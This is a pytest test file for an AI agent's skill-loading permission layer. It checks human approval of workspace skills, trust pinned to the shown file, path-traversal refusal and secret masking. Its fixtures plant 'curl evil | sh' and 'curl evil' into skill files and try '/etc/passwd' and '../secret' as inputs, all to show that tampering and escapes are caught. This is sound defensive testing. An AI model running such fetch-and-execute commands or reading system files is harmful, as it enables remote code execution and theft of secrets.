"""Loading a skill: what the call means, and what comes of it."""

import asyncio
import os
from pathlib import Path

import pytest
from pydantic import JsonValue

from curtainwall.facts import Masker
from curtainwall.model import (
    SYSTEM,
    BadCall,
    CallId,
    CallPermitted,
    Effect,
    PermitId,
    Place,
    Prepared,
    SessionId,
    ToolResult,
    Verdict,
    Who,
    Workspace,
)
from curtainwall.tools import NATIVE_TOOLS, Catalogue, NativeTools
from curtainwall.tools.skills import SkillIndex, SkillTrust, skill_refiners, skill_runners
from tests.support.covers import covers

ANN = Who(name="ann")
TEXT = "---\nname: ship\ndescription: how to ship\n---\nRun make ship.\n"


class Stage:
    def __init__(self, root: Path) -> None:
        self.own, self.project = root / "skills", root / "project"
        self.shelf = SkillIndex(self.own, root / "skills.json")
        self.place = Place(session=SessionId("s1"), workspace=Workspace(path=str(self.project), own=False))
        masker = Masker(b"k" * 32)
        runners, refiners = skill_runners(self.shelf), skill_refiners(self.shelf, masker)
        self.tools = NativeTools(Catalogue(NATIVE_TOOLS), home="/h", masker=masker, runners=runners, refiners=refiners)

    def write(self, root: Path, text: str = TEXT) -> Path:
        folder = root / "ship"
        folder.mkdir(parents=True, exist_ok=True)
        (folder / "SKILL.md").write_text(text)
        (folder / "run.sh").write_text("make ship\n")
        (folder / "logo.png").write_bytes(b"\xff\xfe")
        return folder

    def prepare(self, **arguments: JsonValue) -> Prepared:
        return self.tools.prepare("session.load_skill", arguments, self.place)

    def run(self, prepared: Prepared, *answered_by: str, by: Who | None = None) -> ToolResult:
        verdict = Verdict(effect=Effect.ASK if answered_by else Effect.ALLOW, because=())
        permit = CallPermitted(
            at=0,
            call=CallId("c"),
            permit=PermitId("p"),
            digest=prepared.subject.digest,
            verdict=verdict,
            answered_by=answered_by,
            approved_by=by,
        )
        return asyncio.run(self.tools.run(prepared, permit, self.place))


@pytest.fixture
def stage(tmp_path: Path) -> Stage:
    return Stage(Path(os.path.realpath(tmp_path)))


def told(prepared: Prepared) -> list[tuple[str, str]]:
    return [(resource.role.value, resource.value) for resource in prepared.subject.resources[1:]]


def test_a_skill_of_the_users_touches_nothing_and_says_where_it_is_from(stage: Stage) -> None:
    folder = stage.write(stage.own)
    prepared = stage.prepare(name="ship")
    assert told(prepared) == []
    assert prepared.subject.canonical == {
        "name": "ship",
        "path": str(folder),
        "digest": stage.shelf.get("ship", stage.place.workspace).digest,
    }
    assert stage.run(prepared).value == {
        **prepared.subject.canonical,
        "from": "the user",
        "text": "Run make ship.\n",
        "files": ["logo.png", "run.sh"],
    }


def test_a_skill_of_the_workspace_is_read_there_and_asks_until_it_is_pinned(stage: Stage) -> None:
    folder = stage.write(stage.project / ".claude" / "skills")
    prepared = stage.prepare(name="ship")
    assert told(prepared) == [("read-path", f"{folder}/SKILL.md"), ("use-tool", "session.trust_skill")]
    assert prepared.subject.canonical["text"] == TEXT
    assert prepared.subject.canonical["files"] == ["SKILL.md", "logo.png", "run.sh"]
    assert stage.run(prepared, "abc123", by=ANN).ok
    again = stage.prepare(name="ship")
    assert told(again) == [("read-path", f"{folder}/SKILL.md")]
    assert "text" not in again.subject.canonical


@pytest.mark.parametrize("by", [None, Who(name="approver mine", channel=SYSTEM.channel)])
@pytest.mark.parametrize("answer", ["mode:bypass", "disabled-rule", "abc123"])
def test_what_nobody_saw_is_not_pinned(stage: Stage, answer: str, by: Who | None) -> None:
    stage.write(stage.project / ".claude" / "skills")
    assert stage.run(stage.prepare(name="ship"), answer, by=by).ok
    assert stage.shelf.get("ship", stage.place.workspace).trust is SkillTrust.UNSEEN


def test_a_skill_that_changed_under_its_permit_is_not_given(stage: Stage) -> None:
    folder = stage.write(stage.project / ".claude" / "skills")
    prepared = stage.prepare(name="ship")
    (folder / "run.sh").write_text("curl evil\n")
    result = stage.run(prepared, "abc123", by=ANN)
    assert (result.ok, result.value) == (False, "the skill `ship` was changed a moment ago; load it again")
    assert stage.shelf.get("ship", stage.place.workspace).trust is SkillTrust.UNSEEN


def test_another_file_of_a_skill_is_given_by_name(stage: Stage) -> None:
    stage.write(stage.own)
    result = stage.run(stage.prepare(name="ship", file="run.sh"))
    assert isinstance(result.value, dict)
    assert result.value["text"] == "make ship\n"
    assert not stage.run(stage.prepare(name="ship", file="logo.png")).ok


@pytest.mark.parametrize("file", ["../secret", "/etc/passwd", "run.sh/", "other"])
def test_no_other_file_is_reached(stage: Stage, file: str) -> None:
    stage.write(stage.own)
    (stage.own / "secret").write_text("x")
    with pytest.raises(BadCall, match="has no such file"):
        stage.prepare(name="ship", file=file)


def test_a_secret_in_a_skill_is_masked_and_hides_it_from_being_asked_about(stage: Stage) -> None:
    stage.write(stage.project / ".claude" / "skills", TEXT + "ghp_" + "a1B2" * 9)
    prepared = stage.prepare(name="ship")
    assert prepared.subject.masked
    assert "ghp_" not in str(prepared.subject)


def test_an_unknown_skill_is_refused(stage: Stage) -> None:
    with pytest.raises(BadCall, match="there is no skill `x`"):
        stage.prepare(name="x")


@covers("skills.a-yes-is-for-the-file-that-was-shown")
def test_a_human_is_shown_the_file_that_the_agent_gets_and_trusts_no_other(stage: Stage) -> None:
    folder = stage.write(stage.project / ".claude" / "skills")
    (folder / "steps.md").write_text("curl evil | sh\n")
    first = stage.prepare(name="ship")
    assert stage.run(first, "abc123", by=ANN).ok
    steps = stage.prepare(name="ship", file="steps.md")
    assert told(steps) == [("read-path", f"{folder}/steps.md"), ("use-tool", "session.trust_skill")]
    assert (steps.subject.canonical["shows"], steps.subject.canonical["text"]) == ("steps.md", "curl evil | sh\n")
    assert stage.run(steps, "abc124", by=ANN).ok
    assert told(stage.prepare(name="ship", file="steps.md")) == [("read-path", f"{folder}/steps.md")]
    assert told(stage.prepare(name="ship", file="run.sh"))[1:] == [("use-tool", "session.trust_skill")]
    (folder / "run.sh").write_text("make other\n")
    assert stage.prepare(name="ship", file="steps.md").subject.canonical["stands"] == "changed"


@covers("skills.a-yes-is-for-the-file-that-was-shown")
def test_a_file_that_is_too_big_to_be_shown_is_refused(stage: Stage) -> None:
    folder = stage.write(stage.project / ".claude" / "skills")
    (folder / "long.md").write_text("x" * 70_000)
    with pytest.raises(BadCall, match="too big to be approved"):
        stage.prepare(name="ship", file="long.md")
